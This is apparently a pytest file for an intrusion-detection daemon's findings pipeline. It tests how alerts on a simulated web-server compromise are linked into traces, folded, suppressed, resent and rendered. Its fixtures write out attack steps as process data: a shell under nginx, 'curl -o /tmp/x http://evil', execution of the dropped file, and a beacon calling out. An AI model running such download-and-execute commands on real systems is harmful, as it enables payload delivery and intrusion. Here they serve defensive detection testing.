"""The findings pipeline on a real store: chains cut at the root, folding, suppression,
a sink that goes down and comes back (nothing lost), and a restart with unsent findings."""

from __future__ import annotations

from pathlib import Path

from traces_support import FakeMatch, FakeRule, FakeSink, World, ev_of, pipeline

from spyderd.findings import intake
from spyderd.findings.intake import RETRY_S, Findings
from spyderd.model import FileEvent, WroteExecEvent
from spyderd.traces.build import chain_text
from spyderd.traces.fold import Folder
from spyderd.traces.suppress import load_suppressions
from spyderd.traces.tracker import TraceTracker


def attack(w: World):
    srv = w.web_server()
    sh = w.run(200, 100, "/bin/sh", "-c", "id; curl")
    rid = w.run(201, 200, "/usr/bin/id")
    curl = w.run(202, 200, "/usr/bin/curl", "-o", "/tmp/x", "http://evil")
    return srv, sh, rid, curl


def test_findings_chain_trace_and_one_trace_entry(tmp_path):
    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    srv, sh, rid, curl = attack(w)
    f1 = p.new(ev_of(sh), sh, FakeMatch(FakeRule("Shell below web server"), refs=[srv]), now=0)
    f2 = p.new(ev_of(rid), rid, FakeMatch(FakeRule("Recon", "medium", 4)), now=0)
    f3 = p.new(ev_of(curl), curl, FakeMatch(FakeRule("Download", "high")), now=0)
    assert f1.trace_id == f2.trace_id == f3.trace_id and f1.root_id == srv.id
    p.send_due(0.5)
    assert sink.findings == []  # settling
    p.send_due(1.5)
    assert [f["id"] for f in sink.findings] == [f1.id, f2.id, f3.id]
    assert chain_text(sink.findings[1]["chain"]) == "… > nginx[100] > sh[200] > id[201]"
    elided, root = sink.findings[0]["chain"][:2]
    assert (elided["role"], elided["count"], elided["names"]) == ("elided", 1, ["init"])  # init's fork copy left out
    assert root["role"] == "root" and root["pid"] == 100
    assert sink.traces == []
    p.send_due(2.5)
    (tr,) = sink.traces
    assert tr["score"] == 20 + 8 + 20 and tr["findings"] == [f1.id, f2.id, f3.id]
    assert tr["counts"]["processes"] >= 4 and tr["root_kind"] == "inbound"
    p.send_due(100)
    assert len(sink.traces) == 1
    stored = w.store.trace(tr["id"])
    assert stored["emitted"] == {"journald": 48} and w.store.finding(f3.id).sent


def test_repeats_fold_into_one_finding_with_a_count(tmp_path):
    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    srv = w.web_server()
    subjects = [w.run(300 + i, 100, "/usr/bin/id", "-u") for i in range(3)]
    other = w.run(310, 100, "/usr/bin/id", "-g")  # other arguments: its own finding
    rule = FakeRule("Recon", "medium", 4)
    out = [p.new(ev_of(s), s, FakeMatch(rule), now=0) for s in [*subjects, other]]
    assert out[0] is out[1] is out[2] and out[3] is not out[0]
    assert out[0].count == 3 and out[0].last_time == subjects[2].start
    p.send_due(5)
    assert [f["count"] for f in sink.findings] == [3, 1]
    assert p.counters["folded"] == 2
    below = w.store.trace(out[0].trace_id)  # below the threshold, but counted all the same
    assert below["score"] == 8 and below["counts"]["processes"] >= 3 and below["users"] == ["0"]
    assert srv.id == out[0].root_id


def test_suppressed_findings_are_stored_not_sent_and_zero_the_trace(tmp_path):
    policy = Path(tmp_path) / "ops.yaml"
    policy.write_text("- suppress: nginx health checks\n"
                      "  reason: known good\n"
                      "  ancestor: [nginx]\n"
                      "  rule: [Shell*]\n")
    w, sink = World(tmp_path / "w"), FakeSink()
    p = pipeline(w, sink, [str(policy)])
    _srv, sh, _rid, curl = attack(w)
    f1 = p.new(ev_of(sh), sh, FakeMatch(FakeRule("Shell below web server", "critical")), now=0)
    f2 = p.new(ev_of(curl), curl, FakeMatch(FakeRule("Download", "critical")), now=0)
    p.send_due(10)
    assert f1.suppressed == "nginx health checks" and not f2.suppressed
    assert [f["id"] for f in sink.findings] == [f2.id]  # the other rule still reports
    assert sink.traces == []
    tr = w.store.trace(f1.trace_id)
    assert tr["score"] == 0 and tr["suppressed"] == "nginx health checks"
    assert w.store.finding(f1.id).suppressed == "nginx health checks"
    assert p.suppressions.hits == {"nginx health checks": 1}


def test_sink_down_then_up_loses_nothing_and_a_restart_resends(tmp_path):
    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    _srv, sh, rid, curl = attack(w)
    sink.up = False
    fs = [p.new(ev_of(n), n, FakeMatch(FakeRule(f"R{i}")), now=0)
          for i, n in enumerate((sh, rid, curl))]
    p.send_due(5)
    assert sink.errors == 1  # one probe, not one error per pending finding
    p.send_due(5 + RETRY_S / 2)
    assert sink.errors == 1
    assert [w.store.finding(f.id).sent for f in fs] == [False] * 3
    # the daemon dies here; a new one on the same store sends what was kept
    w.graph.flush()
    sink2 = FakeSink()
    p2 = pipeline(w, sink2)
    assert p2.resend_unsent(now=0) == 3
    p2.send_due(1000)
    assert sorted(f["id"] for f in sink2.findings) == sorted(f.id for f in fs)
    assert [t["score"] for t in sink2.traces] == [60]
    # and the first pipeline, had it lived, would have sent everything once journald returned
    sink.up = True
    p.send_due(5 + RETRY_S)
    p.send_due(5 + 2 * RETRY_S)
    assert len(sink.findings) == 3 and len(sink.traces) == 1


def test_trace_view_shows_alerts_and_connections_of_the_attack(tmp_path):
    from spyderd.traces import build_trace
    from spyderd.traces.render import render_tree

    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    srv, sh, _rid, curl = attack(w)
    w.alert(sh, "app: something odd happened")
    w.connect(202, 443)
    w.graph.apply(FileEvent(time=w.tick(), pid=202, op="create", path="/tmp/x", inode=7, dev=1))
    payload = w.run(203, 200, "/tmp/x")
    w.graph.apply(WroteExecEvent(time=w.tick(), pid=203, path="/tmp/x", inode=7, dev=1,
                                 writer_pid=202, writer_start=curl.attrs["start_ns"],
                                 write_time=w.t - 3 * 10**9))
    benign = w.run(400, 100, "/usr/bin/true")  # another request of the same server
    f = p.new(ev_of(curl), curl, FakeMatch(FakeRule("Download")), now=0)
    p.new(ev_of(payload), payload, FakeMatch(FakeRule("Run from /tmp")), now=0)
    p.send_due(10)
    view = build_trace(w.store, f.trace_id)
    kinds = {n.kind for n in view.nodes.values()}
    assert {"process", "alert", "connection", "listener", "file"} <= kinds
    assert benign.id not in view.nodes  # only the request that led to the finding
    assert any(e.kind == "alerted" and e.src == sh.id for e in view.edges)
    tree = render_tree(view)
    assert "alert <4> app: app: something odd happened" in tree
    assert "!! Download (high)" in tree and "connect 127.0.0.1:40000 -> 10.0.0.9:443" in tree
    assert "· wrote /tmp/x" in tree and "· executed /tmp/x  (written by curl[202])" in tree
    assert view.to_dict()["score"] == 40 and view.roles[srv.id] == "root"


def _request(w: World, pid: int, from_port: int, *cmd: str):
    """One inbound connection to the web server (pid 100) and the shell that handled it."""
    w.accept(100, 8080, from_port)
    sh = w.run(pid, 100, "/bin/sh", "-c", " ".join(cmd))
    return sh


def test_each_request_of_a_server_is_its_own_trace(tmp_path):
    from spyderd.traces import build_trace

    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    w.web_server()
    a = _request(w, 200, 50001, "id")
    b = _request(w, 300, 50002, "id -u")  # the same command would fold into the first
    fa = p.new(ev_of(a), a, FakeMatch(FakeRule("Shell")), now=0)
    fb = p.new(ev_of(b), b, FakeMatch(FakeRule("Shell")), now=0)
    assert fa.root_id == fb.root_id and fa.trace_id != fb.trace_id
    p.send_due(10)
    view = build_trace(w.store, fb.trace_id)
    accepted = [n for n in view.nodes.values() if n.kind == "connection"]
    assert [n.attrs["remote_port"] for n in accepted] == [50002]  # its own request only
    assert a.id not in view.nodes


def test_requests_sharing_a_dropped_file_are_one_trace(tmp_path):
    from spyderd.traces import build_trace

    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    w.web_server()
    _request(w, 200, 50001, "curl -o /tmp/x http://evil")
    curl = w.run(201, 200, "/usr/bin/curl", "-o", "/tmp/x", "http://evil")
    w.graph.apply(FileEvent(time=w.tick(), pid=201, op="create", path="/tmp/x", inode=7, dev=1))
    f1 = p.new(ev_of(curl), curl, FakeMatch(FakeRule("Download")), now=0)
    other = _request(w, 250, 50003, "true")  # an unrelated request in between
    f_other = p.new(ev_of(other), other, FakeMatch(FakeRule("Shell", "low")), now=0)
    b = _request(w, 300, 50002, "/tmp/x")
    f2 = p.new(ev_of(b), b, FakeMatch(FakeRule("Shell")), now=0)  # before the link is known
    assert f2.trace_id != f1.trace_id
    old = f2.trace_id
    payload = w.run(301, 300, "/tmp/x")
    w.graph.apply(WroteExecEvent(time=w.tick(), pid=301, path="/tmp/x", inode=7, dev=1,
                                 writer_pid=201, writer_start=curl.attrs["start_ns"],
                                 write_time=w.t - 3 * 10**9))
    f3 = p.new(ev_of(payload), payload, FakeMatch(FakeRule("Run from /tmp")), now=0)
    assert f3.trace_id == f2.trace_id == f1.trace_id != f_other.trace_id
    p.send_due(10)
    assert {f["trace_id"] for f in sink.findings if f["id"] != f_other.id} == {f1.trace_id}
    merged = w.store.trace(old)
    assert merged["merged_into"] == f1.trace_id
    tr = w.store.trace(f1.trace_id)
    assert set(tr["findings"]) == {f1.id, f2.id, f3.id} and tr["score"] == 60
    assert build_trace(w.store, old).id == f1.trace_id  # the old id shows the merged trace
    assert {w.store.finding(x).trace_id for x in (f1.id, f2.id, f3.id)} == {f1.trace_id}
    assert [t["id"] for t in sink.traces] == [f1.trace_id]  # one entry for the attack


def test_requests_calling_the_same_address_are_one_trace(tmp_path):
    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    w.web_server()
    a = _request(w, 200, 50001, "beacon")
    beacon = w.run(201, 200, "/tmp/beacon")
    w.connect(201, 7777, local_port=41000)
    f1 = p.new(ev_of(beacon), beacon, FakeMatch(FakeRule("C2")), now=0)
    b = _request(w, 300, 50002, "beacon again")
    again = w.run(301, 300, "/usr/bin/python3", "-c", "connect again")
    w.connect(301, 7777, local_port=41001)
    f2 = p.new(ev_of(again), again, FakeMatch(FakeRule("Python")), now=0)
    assert f1.trace_id == f2.trace_id
    c = _request(w, 400, 50003, "other")
    elsewhere = w.run(401, 400, "/usr/bin/python3", "-c", "connect")
    w.connect(401, 443, local_port=41002)
    f3 = p.new(ev_of(elsewhere), elsewhere, FakeMatch(FakeRule("Python")), now=0)
    assert f3.trace_id != f1.trace_id
    del a, b, c


def test_idle_gap_splits_a_trace(tmp_path):
    w, sink = World(tmp_path), FakeSink()
    tracker = TraceTracker(threshold=40, settle=2.0, idle=5.0, sinks=(sink.name,),
                           lookup=w.store.trace)
    p = Findings(w.graph, w.store, [sink], tracker, Folder(0), load_suppressions([]))
    srv = w.web_server()
    f1 = p.new(ev_of(srv), srv, FakeMatch(FakeRule("Server does X")), now=0)
    for _ in range(6):
        w.tick()
    srv2 = w.exec(100, "/usr/sbin/nginx", "-s", "reload")
    f2 = p.new(ev_of(srv2), srv2, FakeMatch(FakeRule("Server does Y")), now=0)
    assert f1.root_id == f2.root_id and f1.trace_id != f2.trace_id


def test_traces_name_their_root_in_human_terms(tmp_path):
    from spyderd.traces.split import systemd_unit

    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    w.web_server()
    sh = _request(w, 200, 50001, "id")
    f = p.new(ev_of(sh), sh, FakeMatch(FakeRule("Shell")), now=0)
    tr = w.graph._traces.get(f.trace_id) or p.tracker.traces[f.trace_id]
    assert tr.root_label == "nginx on :8080 (request from 127.0.0.1:50001)"
    proc = tmp_path / "proc" / "4242"
    proc.mkdir(parents=True)
    (proc / "cgroup").write_text("0::/system.slice/cron.service\n")
    cron = sh.__class__(id="x", kind="process", pid=4242)
    assert systemd_unit(cron, str(tmp_path / "proc")) == "cron.service"
    assert systemd_unit(cron, str(tmp_path / "nowhere")) == ""


def test_trace_of_a_pid_around_a_time(tmp_path):
    from spyderd.ctl.process import _trace_of_pid, image_for_pid

    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    w.web_server()
    sh = _request(w, 200, 50001, "id")
    copy = w.graph.get(sh.parent)
    later = w.exec(200, "/usr/bin/id")
    f = p.new(ev_of(later), later, FakeMatch(FakeRule("Recon")), now=0)
    p.send_due(10)
    assert image_for_pid(w.store, 200).id == later.id
    assert image_for_pid(w.store, 200, copy.start).id == copy.id
    assert image_for_pid(w.store, 200, sh.start).id == sh.id
    assert image_for_pid(w.store, 200, 1).id == copy.id  # before it ran: the first after
    assert _trace_of_pid(w.store, 200, 0) == later.id  # no time: the process, as before
    assert _trace_of_pid(w.store, 200, later.start) == f.trace_id  # what it did then
    assert _trace_of_pid(w.store, 200, sh.start) == sh.id  # no finding then: the process
    assert _trace_of_pid(w.store, 999, 0) is None


def test_a_costly_trace_is_not_recounted_every_loop_turn(tmp_path, monkeypatch):
    """Counting a trace builds its view from the store (seconds for thousands of processes):
    after a count that took d seconds the trace waits RECOUNT_FACTOR * d before the next, so
    a busy trace cannot hold the daemon's loop."""
    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    _srv, sh, rid, curl = attack(w)
    builds: list[str] = []
    real = intake.build_trace

    def slow_build(store, ident):  # the real view, as if it had taken 2 s to build
        builds.append(ident)
        clock[0] += 2.0
        return real(store, ident)

    clock = [1000.0]
    monkeypatch.setattr(intake, "build_trace", slow_build)
    monkeypatch.setattr(intake.time, "monotonic", lambda: clock[0])
    rule = FakeRule("Recon", "medium", 4)
    f1 = p.new(ev_of(rid), rid, FakeMatch(rule), now=0)
    p.send_due(5)
    assert len(builds) == 1 and sink.findings[-1]["id"] == f1.id
    p.new(ev_of(curl), curl, FakeMatch(FakeRule("Download", "low", 5)), now=6)
    p.send_due(12)  # counted 7 s ago at a cost of 2 s: not again before 5 + 20
    assert len(builds) == 1 and len(sink.findings) == 2
    p.new(ev_of(sh), sh, FakeMatch(FakeRule("Shell", "low", 5)), now=26)
    p.send_due(30)
    assert len(builds) == 2
    assert w.store.trace(f1.trace_id)["counts"]["processes"] >= 4


def test_a_stop_does_not_recount_counted_traces(tmp_path, monkeypatch):
    """flush_all at a stop sends what is pending without rebuilding views already counted
    (a trace of thousands of processes held a SIGTERM for over a minute)."""
    w, sink = World(tmp_path), FakeSink()
    p = pipeline(w, sink)
    _srv, sh, rid, _curl = attack(w)
    p.new(ev_of(rid), rid, FakeMatch(FakeRule("Recon", "medium", 4)), now=0)
    p.send_due(5)
    builds: list[str] = []
    real = intake.build_trace
    monkeypatch.setattr(intake, "build_trace", lambda s, i: builds.append(i) or real(s, i))
    p.new(ev_of(sh), sh, FakeMatch(FakeRule("Shell", "high")), now=6)
    p.flush_all()
    assert builds == [] and sink.findings[-1]["rule"] == "Shell"
